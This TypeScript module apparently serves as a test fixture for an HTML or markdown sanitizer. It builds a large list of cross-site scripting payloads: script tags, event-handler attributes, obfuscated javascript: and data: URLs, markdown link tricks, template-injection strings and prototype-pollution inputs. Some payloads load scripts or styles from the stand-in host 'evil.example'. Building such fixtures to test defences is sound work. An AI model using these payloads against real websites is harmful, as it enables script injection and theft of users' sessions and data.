/** What runs if one of the shapes gets through. */
const RUN = 'window.__xss=1';
/** Every shape that fetches something does it here. */
export const FOREIGN = 'evil.example';

const PAYLOADS = [RUN, 'alert(1)', 'top.__xss=1', `eval('${RUN}')`];

/** Code in an element of its own, or in an attribute that the browser runs by itself. */
const HTML = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src=https://${FOREIGN}/x.js></script>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `]]><script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`,
  `<script type="application/json" id="boot">null</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://${FOREIGN}/">`,
  `<link rel=stylesheet href="https://${FOREIGN}/x.css">`,
  `<link rel=import href="https://${FOREIGN}/x.html">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=https://${FOREIGN}/">`,
  `<style>@import 'https://${FOREIGN}/x.css';</style>`,
  `<style>*{background:url(javascript:${RUN})}</style>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<isindex action="javascript:${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x\u2028onerror=${RUN}>`,
  `<img src=x\tonerror\t=\t${RUN}>`,
  `<img src=x oNeRrOr=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x" onerror="&#119;indow.__xss=1">`,
  `<img src=\`x\` onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" &#1; javascript:${RUN}">x</a>`,
  `<div style="background:url(https://${FOREIGN}/x.png)">x</div>`,
  `<x onclick=${RUN}>x</x>`,
  `＜script＞${RUN}＜/script＞`,
  `\u202e<script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const EVENTS = [
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video', 'oncanplay'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['div', 'onpointerover'],
  ['div style=animation-name:fade-in', 'onanimationstart'],
  ['div contenteditable', 'onbeforeinput'],
  ['p tabindex=0', 'onfocusin'],
  ['iframe src=/', 'onload'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['svg', 'onfocusin'],
  ['dialog open', 'onclose'],
].flatMap(([tag, event]) => [`<${tag} ${event}=${RUN}>`, `<${tag} ${event}="alert(1)" x=`]);

/** Addresses that run, or that look as if they did not. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3a;',
  'java&Tab;script:',
  'java&NewLine;script:',
  'java%0ascript:',
  '&#106;avascript:',
  '&#x6A;&#x61;vascript:',
  '\\javascript:',
  'javascript\\:',
  '%6aavascript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript://%0a',
  'javascript:/*https://x*/',
  'vbscript:',
  'VBScript:',
  'data:text/html,',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=x>',
  'data:text/javascript,',
  'blob:',
  'filesystem:',
  'view-source:javascript:',
  'feed:javascript:',
  'jar:https://x!/',
  'livescript:',
  'mocha:',
];

const LINKS = SCHEMES.flatMap((scheme, index) => {
  const target = `${scheme}${PAYLOADS[index % PAYLOADS.length]}`;
  return [
    `[link](${target})`,
    `[link](<${target}>)`,
    `![image](${target})`,
    `<${target}>`,
    `[ref ${index}][r${index}]\n\n[r${index}]: ${target.replaceAll(' ', '')} "title"`,
  ];
});

const MARKDOWN = [
  `[x](https://example.org "onmouseover=${RUN}")`,
  `[x](https://example.org" onmouseover="${RUN})`,
  `[x](https://example.org/'onclick='${RUN})`,
  `![x" onerror="${RUN}](https://example.org/x.png)`,
  `![x](https://example.org/x.png"onerror="${RUN})`,
  `[a](javascript:${RUN}//\n)`,
  `[![x](x)](javascript:${RUN})`,
  `[<img src=x onerror=${RUN}>](https://example.org)`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `\`<script>${RUN}</script>\``,
  `| <script>${RUN}</script> | b |\n| --- | --- |\n| [x](javascript:${RUN}) | <img src=x onerror=${RUN}> |`,
  `- [x] <img src=x onerror=${RUN}>`,
  `> <svg onload=${RUN}>`,
  `# <script>${RUN}</script>`,
  `x[^<script>]\n\n[^<script>]: <script>${RUN}</script>`,
  `x[^__proto__]\n\n[^__proto__]: [y](javascript:${RUN})`,
  `www.example.org/<script>${RUN}</script>`,
  `https://example.org/"onmouseover="${RUN}`,
  `javascript:${RUN}`,
  `<!-- --><script>${RUN}</script><!-- -->`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];

/** What a template engine, a shell or a parser of this page's own data would run. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{ __xss = 1 }}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{% ${RUN} %}`,
  `[[\${${RUN}}]]`,
  `"};${RUN};//`,
  `';${RUN};//`,
  `\u2028${RUN}\u2028`,
  `\u2029${RUN}//\u2029`,
  `</script><!--<script>`,
  `<!--<script>${RUN}`,
  `__proto__[__xss]=1`,
  `{"__proto__":{"__xss":1}}`,
];

export const INJECTIONS: readonly string[] = [...HTML, ...EVENTS, ...LINKS, ...MARKDOWN, ...TEMPLATES];

/** Packs shapes into texts of at most `length` characters; one that is longer alone is left out. */
export function pack(shapes: readonly string[], length: number, between: string): string[] {
  const texts: string[] = [];
  for (const shape of shapes.filter((each) => each.length <= length)) {
    const last = texts.at(-1);
    const joined = last === undefined ? shape : `${last}${between}${shape}`;
    if (last === undefined || joined.length > length) texts.push(shape);
    else texts[texts.length - 1] = joined;
  }
  return texts;
}
